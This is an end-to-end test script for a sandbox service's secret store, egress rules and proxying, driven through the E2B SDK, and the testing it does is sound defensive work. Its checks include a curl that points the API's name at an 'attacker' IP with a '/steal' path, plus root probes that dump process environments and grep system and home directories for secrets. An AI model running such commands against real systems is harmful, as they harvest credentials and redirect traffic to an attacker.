// Secrets and network rules through the unmodified E2B SDK against a
// `warren serve` whose egress proxy reaches the test's own internet
// (secrets_e2e_test.go). Each step exits non-zero on its first failed
// check and prints "OK <step>". The secret's value is never sent into a
// sandbox: what the sandbox can see is brought out and searched here.
import { Sandbox, Secret, SecretNotFoundError, ALL_TRAFFIC } from 'e2b'

const fail = (msg) => { console.error('FAIL: ' + msg); process.exit(1) }
const check = (cond, msg) => { if (!cond) fail(msg) }
const env = process.env
const SECRET = env.E2E_SECRET
const SECRET2 = env.E2E_SECRET2
const API = env.E2E_API_HOST // has a transform
const OTHER = env.E2E_OTHER_HOST
const step = process.argv[2]
const run = env.E2E_RUN

// sh runs cmd in sbx and returns its result whatever its exit code.
async function sh(sbx, cmd, user = 'user') {
  try {
    const r = await sbx.commands.run(cmd, { user, timeoutMs: 60_000 })
    return { exitCode: r.exitCode, stdout: r.stdout, stderr: r.stderr }
  } catch (e) {
    if (e.exitCode !== undefined) return { exitCode: e.exitCode, stdout: e.stdout ?? '', stderr: e.stderr ?? '' }
    throw e
  }
}

function noSecret(what, s) {
  for (const v of [SECRET, SECRET2]) {
    if (v && String(s).includes(v)) fail(`${what} shows the secret: ${String(s).slice(0, 2000)}`)
  }
}

async function api(path) {
  const r = await fetch(env.E2B_API_URL + path, { headers: { 'X-API-KEY': env.E2B_API_KEY } })
  return { status: r.status, text: await r.text() }
}

if (step === 'secrets') {
  const name = 'openai-' + run
  const info = await Secret.create(name, SECRET, { metadata: { owner: 'e2e' } })
  check(info.secretId.startsWith('sec_') && info.name === name && info.version === 1 && info.metadata.owner === 'e2e', `create: ${JSON.stringify(info)}`)
  noSecret('Secret.create', JSON.stringify(info))
  const got = await Secret.getInfo(name)
  check(got.secretId === info.secretId && got.createdAt instanceof Date, `getInfo: ${JSON.stringify(got)}`)
  check(await Secret.exists(info.secretId), 'exists by ID')
  check(!(await Secret.exists('nope-' + run)), 'exists of a missing secret')
  let thrown = false
  try { await Secret.update('nope-' + run, 'x') } catch (e) { thrown = e instanceof SecretNotFoundError }
  check(thrown, 'update of a missing secret is not SecretNotFoundError')
  const list = await Secret.list({ limit: 100 }).nextItems()
  check(list.some((s) => s.name === name), `list: ${JSON.stringify(list)}`)
  noSecret('Secret.list', JSON.stringify(list))
  const tmp = await Secret.create('tmp-' + run, 'short-lived-value')
  check(await Secret.destroy(tmp.name), 'destroy')
  check(!(await Secret.destroy(tmp.name)), 'second destroy')
  thrown = false
  try { await Secret.create('bad{name', 'v') } catch (e) { thrown = true }
  check(thrown, 'a name with a brace was accepted')
  console.log('OK secrets')
}

if (step === 'rules') {
  const name = 'openai-' + run
  const network = {
    allowOut: [API, '*.wild.test.example', env.E2E_DOWN_HOST],
    denyOut: [ALL_TRAFFIC],
    rules: {
      [API]: [{ transform: { headers: { Authorization: `Bearer ${Secret.fill(name)}` } } }],
      [env.E2E_DOWN_HOST]: [{ transform: { headers: { Authorization: `Bearer ${Secret.fill(name)}` } } }],
    },
  }
  const sbx = await Sandbox.create('base', { network, timeoutMs: 300_000 })
  console.log('SANDBOX ' + sbx.sandboxId)

  // The transform host, over curl and Python, with the sandbox's own
  // header replaced and its own placeholder left alone.
  const c = await sh(sbx, `curl -sS -v --max-time 20 -H 'Authorization: Bearer sandbox-own' -H 'X-Probe: \${e2b.secrets.${name}}' https://${API}/v1/models`)
  check(c.exitCode === 0 && c.stdout === `hello from ${API}`, `curl to the transform host: ${JSON.stringify(c)}`)
  noSecret("curl -v (the sandbox's own view of the exchange)", c.stdout + c.stderr)
  check(c.stderr.includes('Bearer sandbox-own'), 'curl -v does not show what the sandbox sent')
  const py = await sh(sbx, `python3 -c "import urllib.request; print(urllib.request.urlopen('https://${API}/py').read().decode())"`)
  check(py.exitCode === 0 && py.stdout.trim() === `hello from ${API}`, `python to the transform host: ${JSON.stringify(py)}`)
  // Hosts without a transform are spliced end to end: the sandbox sees
  // their own certificates (of the test's CA, which it does not trust:
  // -k), the proxy never terminates their TLS.
  const wild = await sh(sbx, 'curl -sS -k --max-time 20 https://a.wild.test.example/')
  check(wild.exitCode === 0 && wild.stdout === 'hello from a.wild.test.example', `wildcard: ${JSON.stringify(wild)}`)

  // Denied: another name (its DNS answer and a connection by address),
  // the API host's name sent to the attacker's address, no name at all.
  const dns = await sh(sbx, `getent hosts ${OTHER}`)
  check(dns.exitCode !== 0 && dns.stdout === '', `DNS of a denied name: ${JSON.stringify(dns)}`)
  const byAddr = await sh(sbx, `curl -sS -k --max-time 20 --resolve ${OTHER}:443:${env.E2E_OTHER_IP} https://${OTHER}/`)
  check(byAddr.exitCode !== 0, `a denied host by address: ${JSON.stringify(byAddr)}`)
  const spoof = await sh(sbx, `curl -sS -k --max-time 20 --resolve ${API}:443:${env.E2E_ATTACKER_IP} https://${API}/steal`)
  check(spoof.exitCode !== 0, `the API's name to the attacker's address: ${JSON.stringify(spoof)}`)
  noSecret('a refused connection', JSON.stringify(spoof))
  const noName = await sh(sbx, `curl -sS --max-time 20 -k https://${env.E2E_API_IP}/`)
  check(noName.exitCode !== 0, `an allowed address without a name: ${JSON.stringify(noName)}`)

  // The proxy's own answers: another Host than the TLS name (421), a
  // transform host that is down (502).
  const misdirected = await sh(sbx, `curl -sS --max-time 20 -H 'Host: ${OTHER}' https://${API}/`)
  check(misdirected.stdout.includes('not the TLS server name'), `Host mismatch: ${JSON.stringify(misdirected)}`)
  noSecret("the proxy's 421", JSON.stringify(misdirected))
  const down = await sh(sbx, `curl -sS --max-time 30 https://${env.E2E_DOWN_HOST}/`)
  check(down.stdout.includes('warren egress proxy'), `a transform host that is down: ${JSON.stringify(down)}`)
  noSecret("the proxy's 502", JSON.stringify(down))

  // Every channel the sandbox has, as root: environment, processes'
  // environments and command lines, the files a service could write.
  const probes = [
    'env',
    'cat /proc/[0-9]*/environ 2>/dev/null | tr "\\0" "\\n"',
    'cat /proc/[0-9]*/cmdline 2>/dev/null | tr "\\0" " "',
    'cat /etc/resolv.conf /etc/hosts /etc/profile.d/*.sh 2>/dev/null',
    'ls -la /usr/local/share/ca-certificates /etc/ssl/certs | head -50',
    'getent hosts ' + API,
    'for f in $(grep -rlsI . /etc /home /root /tmp /var/log /run /usr/local 2>/dev/null | head -2000); do cat "$f"; done 2>/dev/null',
  ]
  for (const p of probes) {
    const r = await sh(sbx, p, 'root')
    noSecret(`probe ${p}`, r.stdout + r.stderr)
  }
  const info = await sbx.getInfo()
  noSecret('getInfo', JSON.stringify(info))
  check(JSON.stringify(info.network.rules).includes('${e2b.secrets.' + name + '}'), `getInfo's rules: ${JSON.stringify(info.network)}`)
  for (const path of [`/sandboxes/${sbx.sandboxId}/logs`, `/v2/sandboxes/${sbx.sandboxId}/logs`, `/events/sandboxes/${sbx.sandboxId}`, `/sandboxes/${sbx.sandboxId}`]) {
    const r = await api(path)
    noSecret(path, r.text)
  }
  const log = await api(`/sandboxes/${sbx.sandboxId}/egress`)
  check(log.status === 200, `egress log: ${log.status} ${log.text}`)
  noSecret('egress log', log.text)
  const entries = JSON.parse(log.text)
  check(entries.some((e) => e.host === API && e.decision === 'allowed' && e.bytesIn > 0), `egress log lacks the API: ${log.text}`)
  check(entries.some((e) => e.host === OTHER && e.decision === 'denied'), `egress log lacks the denied host: ${log.text}`)

  // A live update replaces everything: only OTHER now, no rules.
  await sbx.updateNetwork({ allowOut: [OTHER], denyOut: [ALL_TRAFFIC] })
  const o = await sh(sbx, `curl -sS -k --max-time 20 https://${OTHER}/`)
  check(o.exitCode === 0 && o.stdout === `hello from ${OTHER}`, `after the update, the new host: ${JSON.stringify(o)}`)
  const a = await sh(sbx, `curl -sS -k --max-time 20 https://${API}/after-update`)
  check(a.exitCode !== 0, `after the update, the old host: ${JSON.stringify(a)}`)
  const after = await sbx.getInfo()
  check(!after.network.rules || Object.keys(after.network.rules).length === 0, `rules left after the update: ${JSON.stringify(after.network)}`)
  await sbx.kill()

  // A new value is what the next sandbox sends.
  await Secret.update(name, SECRET2)
  const s2 = await Sandbox.create('base', { network: { allowOut: [API], denyOut: [ALL_TRAFFIC], rules: network.rules }, timeoutMs: 120_000 })
  const c2 = await sh(s2, `curl -sS --max-time 20 https://${API}/v2`)
  check(c2.exitCode === 0, `after Secret.update: ${JSON.stringify(c2)}`)
  await s2.kill()
  // A destroyed secret cannot be used.
  await Secret.destroy(name)
  let refused = ''
  try { await Sandbox.create('base', { network, timeoutMs: 60_000 }) } catch (e) { refused = String(e) }
  check(refused.includes('not found'), `create with a destroyed secret: ${refused}`)
  console.log('OK rules')
}

if (step === 'proxy') {
  const sbx = await Sandbox.create('base', {
    network: {
      allowOut: [OTHER], denyOut: [ALL_TRAFFIC],
      egressProxy: { address: env.E2E_SOCKS, username: env.E2E_SOCKS_USER, password: env.E2E_SOCKS_PASS },
    },
    timeoutMs: 300_000,
  })
  console.log('SANDBOX ' + sbx.sandboxId)
  const r = await sh(sbx, `curl -sS -k --max-time 20 https://${OTHER}/via-proxy`)
  check(r.exitCode === 0 && r.stdout === `hello from ${OTHER}`, `through the SOCKS proxy: ${JSON.stringify(r)}`)
  const info = await sbx.getInfo()
  check(info.network.egressProxy && info.network.egressProxy.address === env.E2E_SOCKS && info.network.egressProxy.username === env.E2E_SOCKS_USER, `getInfo's egressProxy: ${JSON.stringify(info.network)}`)
  check(!JSON.stringify(info).includes(env.E2E_SOCKS_PASS), "getInfo shows the proxy's password")
  console.log('OK proxy')
}

if (step === 'proxydown') {
  const sbx = await Sandbox.connect(process.argv[3])
  const r = await sh(sbx, `curl -sS -k --max-time 20 https://${OTHER}/proxy-down`)
  check(r.exitCode !== 0, `with the SOCKS proxy down: ${JSON.stringify(r)}`)
  await sbx.kill()
  console.log('OK proxydown')
}
